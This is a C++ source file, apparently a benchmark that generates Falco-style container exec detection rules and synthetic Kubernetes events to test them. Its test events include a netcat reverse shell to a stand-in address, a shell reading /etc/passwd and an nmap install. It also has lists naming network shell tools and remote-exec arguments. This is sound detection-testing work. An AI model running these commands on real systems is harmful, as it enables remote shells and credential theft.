#include "bench/exec_rules.h"

#include <algorithm>
#include <cstdio>
#include <cstring>
#include <random>

namespace rampart::bench::exec {
namespace {

// Shared lists (Falco `list:`), declared once in the generated source.
const std::vector<std::string> kShells = {"sh", "bash", "dash", "ash", "zsh", "ksh", "csh", "tcsh", "fish"};
const std::vector<std::string> kSystemNamespaces = {"kube-system", "kube-public", "kube-node-lease"};
const std::vector<std::string> kRceArgs = {"-e", "-c", "--exec", "--sh-exec", "--lua-exec"};

// Pools the generator draws rule parameters from. None of the allowed events of EventMix uses
// a name from the `names` pools, a shell under an application parent, or a path below a prefix.
const char* const kApps[] = {"nginx", "httpd", "apache2", "node", "java", "php-fpm", "ruby",
                             "puma", "gunicorn", "uwsgi", "catalina", "dotnet"};
const char* const kPrefixes[] = {"/tmp/", "/dev/shm/", "/var/tmp/", "/run/user/", "/home/",
                                 "/root/", "/mnt/", "/media/", "/var/run/"};
const char* const kSubdirs[] = {".cache/", ".local/bin/", ".x/", "build/", "payload/", ".ICE-unix/"};
const char* const kBuilders[] = {"make", "cc1", "gcc", "cargo", "go", "javac", "mvn", "gradle", "bazel"};
const char* const kVendors[] = {"java", "app", "datadog-agent", "newrelic", "dynatrace", "splunk", "elastic", "conda"};
const char* const kVendorTools[] = {"java", "jcmd", "jmap", "jdb", "keytool", "agent", "installer", "updater", "python"};
const char* const kNetTools[] = {"nc", "ncat", "netcat", "socat", "telnet", "nmap"};
const char* const kTools[] = {"apt", "apt-get", "dpkg", "yum", "dnf", "microdnf", "rpm", "zypper", "apk", "pip",
                              "pip3", "npm", "gem", "tcpdump", "strace", "gdb", "kubectl", "crictl", "docker", "masscan"};
const char* const kConfigManagers[] = {"ansible-playbook", "chef-client", "puppet", "salt-minion", "make"};
const char* const kRecon[] = {"id", "whoami", "uname", "hostname", "env", "printenv", "mount", "ps",
                              "netstat", "ss", "ifconfig", "lsof", "find"};

template <size_t N>
std::vector<std::string> Pick(std::mt19937& rng, const char* const (&pool)[N], size_t lo, size_t hi) {
  size_t n = lo + rng() % (hi - lo + 1);
  std::vector<std::string> out;
  while (out.size() < n) {
    std::string s = pool[rng() % N];
    if (std::find(out.begin(), out.end(), s) == out.end()) out.push_back(s);
  }
  return out;
}

std::string Quote(const std::string& s) {
  std::string out = "\"";
  for (char c : s) {
    if (c == '"' || c == '\\') out += '\\';
    out += c;
  }
  return out + "\"";
}

std::string List(const std::vector<std::string>& items) {
  std::string out = "[";
  for (size_t i = 0; i < items.size(); ++i) out += (i ? ", " : "") + Quote(items[i]);
  return out + "]";
}

bool In(const std::string& s, const std::vector<std::string>& list) {
  for (const std::string& x : list) {
    if (x == s) return true;
  }
  return false;
}

bool StartsWith(const std::string& s, const std::string& prefix) {
  return s.size() >= prefix.size() && std::memcmp(s.data(), prefix.data(), prefix.size()) == 0;
}

// `path.glob(DIR + "**/bin/" + TOOL)` where DIR ends in '/' and holds no glob characters:
// `**/` matches zero or more whole segments, so the path is DIR, then nothing or anything
// ending in '/', then "bin/TOOL".
bool GlobDirBinTool(const std::string& path, const std::string& dir, const std::string& tool) {
  const size_t d = dir.size(), t = 4 + tool.size();
  if (path.size() < d + t || !StartsWith(path, dir)) return false;
  const char* end = path.data() + path.size();
  if (std::memcmp(end - tool.size(), tool.data(), tool.size()) != 0 || std::memcmp(end - t, "bin/", 4) != 0) {
    return false;
  }
  return path.size() == d + t || path[path.size() - t - 1] == '/';
}

std::string JsonString(const std::string& s) {
  std::string out = "\"";
  for (char c : s) {
    if (c == '"' || c == '\\') {
      out += '\\';
      out += c;
    } else if (static_cast<unsigned char>(c) < 0x20) {
      char buf[8];
      std::snprintf(buf, sizeof buf, "\\u%04x", c);
      out += buf;
    } else {
      out += c;
    }
  }
  return out + "\"";
}

std::string ProcessJson(const Process& p) {
  std::string args = "[";
  for (size_t i = 0; i < p.args.size(); ++i) args += (i ? "," : "") + JsonString(p.args[i]);
  args += "]";
  return "{\"pid\":" + std::to_string(p.pid) + ",\"exe\":" + JsonString(p.exe) + ",\"name\":" + JsonString(p.name) +
         ",\"args\":" + args + ",\"cwd\":" + JsonString(p.cwd) + ",\"uid\":" + std::to_string(p.uid) +
         ",\"gid\":" + std::to_string(p.gid) + "}";
}

Process Proc(int64_t pid, std::string exe, std::vector<std::string> args, int64_t uid = 10001,
             std::string cwd = "/app") {
  Process p;
  p.pid = pid;
  p.name = exe.substr(exe.rfind('/') + 1);
  p.exe = std::move(exe);
  p.args = std::move(args);
  p.cwd = std::move(cwd);
  p.uid = uid;
  p.gid = uid;
  return p;
}

// An event in a workload; `chain` is the process tree above `proc`, parent first.
Event MakeEvent(const std::string& ns, const std::string& app, Process proc, std::vector<Process> chain) {
  Event e;
  e.proc = std::move(proc);
  e.parent = chain.front();
  e.ancestors = std::move(chain);
  e.container_id = "3f2a9c1b7e" + std::to_string(app.size());
  e.container_name = app;
  e.image = "registry.acme.example/" + ns + "/" + app + ":1.4.2";
  e.image_digest = "sha256:4e5f6a7b8c9d0e1f2a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8091";
  e.ns = ns;
  e.workload_kind = "Deployment";
  e.workload_name = app;
  e.pod = app + "-7d9f8c6b5-x2x8q";
  e.service_account = app;
  e.labels = {{"app.kubernetes.io/name", app}, {"app.kubernetes.io/part-of", ns}, {"pod-template-hash", "7d9f8c6b5"}};
  e.node = "node-3";
  return e;
}

}  // namespace

RuleSet GenerateRules(int count, unsigned seed) {
  std::mt19937 rng(seed);
  RuleSet rs;
  std::string& src = rs.source;
  src = std::string("// Generated by bench/exec_rules.cc: ") + std::to_string(count) +
        " Falco-style exec rules, one runtime policy each.\npackage " + kPackage + "\n\n";
  src += "const shells = " + List(kShells) + "\n";
  src += "const system_namespaces = " + List(kSystemNamespaces) + "\n";
  src += "const rce_args = " + List(kRceArgs) + "\n\n";
  for (int i = 0; i < count; ++i) {
    Rule r;
    r.kind = static_cast<Kind>(i % 6);
    r.policy = "rt_" + std::to_string(i);
    std::string scope = "container.id != \"\"";
    std::string cond;
    switch (r.kind) {
      case Kind::kShellFromApp:
        r.rule = "shell_from_app";
        r.block = false;
        r.parents = Pick(rng, kApps, 2, 4);
        scope += " && !(workload.namespace in system_namespaces)";
        cond = "proc.name in shells && parent.name in " + r.policy + "_parents";
        break;
      case Kind::kExecUnderPrefix:
        r.rule = "exec_under_prefix";
        r.block = true;
        r.prefix = kPrefixes[rng() % 9];
        if (rng() % 3 == 0) r.prefix += kSubdirs[rng() % 6];
        r.parents = Pick(rng, kBuilders, 1, 3);
        cond = "proc.exe.startsWith(" + Quote(r.prefix) + ") && !(parent.name in " + r.policy + "_parents)";
        break;
      case Kind::kRootTool:
        r.rule = "root_tool";
        r.block = false;
        r.prefix = std::string("/opt/") + kVendors[rng() % 8] + "/";
        r.tool = kVendorTools[rng() % 9];
        cond = "proc.exe.glob(" + Quote(r.prefix + "**/bin/" + r.tool) + ") && proc.uid == 0";
        break;
      case Kind::kNetcatExec:
        r.rule = "netcat_exec";
        r.block = true;
        r.names = Pick(rng, kNetTools, 2, 3);
        cond = "proc.name in " + r.policy + "_names && proc.args.exists(a, a in rce_args)";
        break;
      case Kind::kToolOutsideParents:
        r.rule = "tool_outside_parents";
        r.block = true;
        r.names = Pick(rng, kTools, 3, 6);
        r.parents = Pick(rng, kConfigManagers, 1, 2);
        scope += " && !(\"rampart.io/mutable\" in workload.labels)";
        cond = "proc.name in " + r.policy + "_names && !(parent.name in " + r.policy + "_parents)";
        break;
      case Kind::kReconUnderApp:
        r.rule = "recon_under_app";
        r.block = false;
        r.names = Pick(rng, kRecon, 2, 3);
        r.parents = Pick(rng, kApps, 2, 3);
        cond = "proc.name in " + r.policy + "_names && ancestors.exists(a, a.name in " + r.policy + "_parents)";
        break;
    }
    if (!r.names.empty()) src += "const " + r.policy + "_names = " + List(r.names) + "\n";
    if (!r.parents.empty()) src += "const " + r.policy + "_parents = " + List(r.parents) + "\n";
    src += "runtime policy " + r.policy + " {\n  severity high\n  on exec\n  when " + scope + "\n  " +
           (r.block ? "block " : "alert ") + r.rule + " if " + cond +
           "\n    message proc.exe + \" (\" + proc.name + \") started by \" + parent.name + \" in \" + "
           "workload.namespace + \"/\" + workload.pod\n}\n\n";
    rs.rules.push_back(std::move(r));
  }
  return rs;
}

std::vector<MixEvent> EventMix(const RuleSet& rules) {
  Process shim = Proc(1, "/usr/bin/containerd-shim-runc-v2", {"-namespace", "k8s.io"}, 0, "/");
  Process runc = Proc(2, "/usr/bin/runc:[2:INIT]", {"init"}, 0, "/");
  Process tini = Proc(3, "/usr/bin/tini", {"--", "/app/start.sh"}, 10001);
  Process sh = Proc(7, "/bin/sh", {"-c", "/app/start.sh"});
  Process bash = Proc(9, "/bin/bash", {"/app/healthcheck.sh"});
  Process java = Proc(12, "/opt/java/openjdk/bin/java", {"-jar", "/app/app.jar"});
  std::vector<MixEvent> mix;
  auto allowed = [&](Event e) { mix.push_back({std::move(e), -1}); };
  allowed(MakeEvent("payments", "billing-api", Proc(40, "/app/billing-api", {"serve", "--listen=:8080"}), {shim}));
  allowed(MakeEvent("shop", "web", Proc(41, "/bin/sh", {"-c", "/docker-entrypoint.sh nginx -g 'daemon off;'"}, 0, "/"),
                    {runc, shim}));
  allowed(MakeEvent("shop", "web", Proc(42, "/usr/sbin/nginx", {"-g", "daemon off;"}, 0, "/"), {sh, runc, shim}));
  allowed(MakeEvent("orders", "orders", Proc(43, "/opt/java/openjdk/bin/java", {"-jar", "/app/app.jar"}), {tini, shim}));
  allowed(MakeEvent("shop", "catalog", Proc(44, "/usr/local/bin/python3", {"manage.py", "migrate"}), {bash, tini, shim}));
  allowed(MakeEvent("shop", "catalog", Proc(45, "/bin/bash", {"/app/healthcheck.sh"}), {sh, tini, shim}));
  allowed(MakeEvent("db", "postgres", Proc(46, "/usr/bin/pg_isready", {"-h", "127.0.0.1", "-p", "5432"}, 999),
                    {bash, shim}));
  allowed(MakeEvent("payments", "ledger", Proc(47, "/bin/grpc_health_probe", {"-addr=:8080"}), {runc, shim}));
  allowed(MakeEvent("shop", "frontend", Proc(48, "/usr/local/bin/node", {"server.js"}),
                    {Proc(5, "/usr/bin/dumb-init", {"--", "node", "server.js"}), shim}));
  allowed(MakeEvent("payments", "billing-api", Proc(49, "/usr/local/bin/envoy", {"-c", "/etc/envoy/envoy.yaml"}),
                    {Proc(6, "/usr/local/bin/pilot-agent", {"proxy", "sidecar"}), shim}));
  allowed(MakeEvent("jobs", "worker", Proc(50, "/bin/sleep", {"30"}), {sh, tini, shim}));
  allowed(MakeEvent("orders", "orders", Proc(51, "/usr/bin/date", {"+%s"}), {bash, java, tini, shim}));
  allowed(MakeEvent("kube-system", "coredns", Proc(52, "/coredns", {"-conf", "/etc/coredns/Corefile"}, 0, "/"),
                    {shim}));

  // Built from the rule table: rule 0 (shell_from_app), 3 (netcat_exec), 4 (tool_outside_parents).
  const Rule& shell_rule = rules.rules.at(0);
  const Rule& nc_rule = rules.rules.at(3);
  const Rule& tool_rule = rules.rules.at(4);
  Process app = Proc(20, "/usr/local/bin/" + shell_rule.parents[0], {"--config", "/etc/app.conf"});
  mix.insert(mix.begin() + 3,
             {MakeEvent("shop", "web", Proc(60, "/bin/sh", {"-c", "id; uname -a; cat /etc/passwd"}), {app, tini, shim}),
              0});
  mix.insert(mix.begin() + 8, {MakeEvent("orders", "orders",
                                         Proc(61, "/usr/bin/" + nc_rule.names[0], {"-e", "/bin/sh", "198.51.100.7", "4444"}),
                                         {bash, java, tini, shim}),
                               3});
  mix.insert(mix.begin() + 13, {MakeEvent("shop", "catalog",
                                          Proc(62, "/usr/bin/" + tool_rule.names[0], {"install", "-y", "nmap"}, 0, "/"),
                                          {bash, tini, shim}),
                                4});
  return mix;
}

std::vector<Event> RandomEvents(int count, unsigned seed) {
  std::mt19937 rng(seed);
  auto any = [&](auto& pool) -> std::string { return pool[rng() % (sizeof(pool) / sizeof(pool[0]))]; };
  auto name = [&]() -> std::string {
    switch (rng() % 7) {
      case 0: return kShells[rng() % kShells.size()];
      case 1: return any(kApps);
      case 2: return any(kTools);
      case 3: return any(kRecon);
      case 4: return any(kNetTools);
      case 5: return any(kBuilders);
      default: return any(kConfigManagers);
    }
  };
  auto exe = [&](const std::string& n) -> std::string {
    switch (rng() % 6) {
      case 0: return std::string(any(kPrefixes)) + (rng() % 2 ? any(kSubdirs) : "") + n;
      case 1: return "/opt/" + any(kVendors) + "/bin/" + any(kVendorTools);
      case 2: return "/opt/" + any(kVendors) + "/" + any(kSubdirs) + "bin/" + any(kVendorTools);
      case 3: return "/opt/" + any(kVendors) + "bin/" + any(kVendorTools);  // no '/' before bin/
      case 4: return "/usr/bin/" + n;
      default: return "/bin/" + n;
    }
  };
  auto process = [&](int64_t pid) {
    std::string n = name();
    std::vector<std::string> args;
    for (size_t k = rng() % 3; k > 0; --k) args.push_back(rng() % 4 == 0 ? kRceArgs[rng() % kRceArgs.size()] : "arg");
    return Proc(pid, exe(n), args, rng() % 3 == 0 ? 0 : 1000);
  };
  std::vector<Event> out;
  for (int i = 0; i < count; ++i) {
    std::vector<Process> chain;
    for (size_t k = 1 + rng() % 3; k > 0; --k) chain.push_back(process(100 + i * 4 + static_cast<int64_t>(k)));
    Event e = MakeEvent(rng() % 5 == 0 ? kSystemNamespaces[rng() % kSystemNamespaces.size()] : "shop", "app",
                        process(i), std::move(chain));
    if (rng() % 5 == 0) e.labels.emplace_back("rampart.io/mutable", "true");
    if (rng() % 10 == 0) e.container_id.clear();
    out.push_back(std::move(e));
  }
  return out;
}

std::string ToJsonLine(const Event& e) {
  std::string ancestors = "[";
  for (size_t i = 0; i < e.ancestors.size(); ++i) ancestors += (i ? "," : "") + ProcessJson(e.ancestors[i]);
  ancestors += "]";
  std::string labels = "{";
  for (size_t i = 0; i < e.labels.size(); ++i) {
    labels += (i ? "," : "") + JsonString(e.labels[i].first) + ":" + JsonString(e.labels[i].second);
  }
  labels += "}";
  return "{\"kind\":\"exec\",\"node\":" + JsonString(e.node) + ",\"proc\":" + ProcessJson(e.proc) +
         ",\"parent\":" + ProcessJson(e.parent) + ",\"ancestors\":" + ancestors + ",\"container\":{\"id\":" +
         JsonString(e.container_id) + ",\"name\":" + JsonString(e.container_name) + ",\"image\":" +
         JsonString(e.image) + ",\"image_digest\":" + JsonString(e.image_digest) + "},\"workload\":{\"namespace\":" +
         JsonString(e.ns) + ",\"kind\":" + JsonString(e.workload_kind) + ",\"name\":" + JsonString(e.workload_name) +
         ",\"pod\":" + JsonString(e.pod) + ",\"labels\":" + labels + ",\"service_account\":" +
         JsonString(e.service_account) + "}}";
}

void Decide(const RuleSet& rules, const Event& e, Result* out) {
  out->verdict = Verdict::kAllow;
  out->hits.clear();
  // Every scope is container-only; the other scope parts and the shell test are the same
  // for every rule, so they are computed once.
  if (e.container_id.empty()) return;
  const bool system_ns = In(e.ns, kSystemNamespaces);
  bool is_mutable = false;
  for (const auto& [key, value] : e.labels) is_mutable = is_mutable || key == "rampart.io/mutable";
  const bool is_shell = In(e.proc.name, kShells);
  const uint32_t n = static_cast<uint32_t>(rules.rules.size());
  for (uint32_t i = 0; i < n; ++i) {
    const Rule& r = rules.rules[i];
    bool match = false;
    switch (r.kind) {
      case Kind::kShellFromApp:
        match = !system_ns && is_shell && In(e.parent.name, r.parents);
        break;
      case Kind::kExecUnderPrefix:
        match = StartsWith(e.proc.exe, r.prefix) && !In(e.parent.name, r.parents);
        break;
      case Kind::kRootTool:
        match = GlobDirBinTool(e.proc.exe, r.prefix, r.tool) && e.proc.uid == 0;
        break;
      case Kind::kNetcatExec:
        if (In(e.proc.name, r.names)) {
          for (const std::string& a : e.proc.args) match = match || In(a, kRceArgs);
        }
        break;
      case Kind::kToolOutsideParents:
        match = !is_mutable && In(e.proc.name, r.names) && !In(e.parent.name, r.parents);
        break;
      case Kind::kReconUnderApp:
        if (In(e.proc.name, r.names)) {
          for (const Process& a : e.ancestors) match = match || In(a.name, r.parents);
        }
        break;
    }
    if (!match) continue;
    Verdict v = r.block ? Verdict::kBlock : Verdict::kAlert;
    if (v > out->verdict) out->verdict = v;
    out->hits.push_back({i, e.proc.exe + " (" + e.proc.name + ") started by " + e.parent.name + " in " + e.ns + "/" + e.pod});
  }
}

}  // namespace rampart::bench::exec
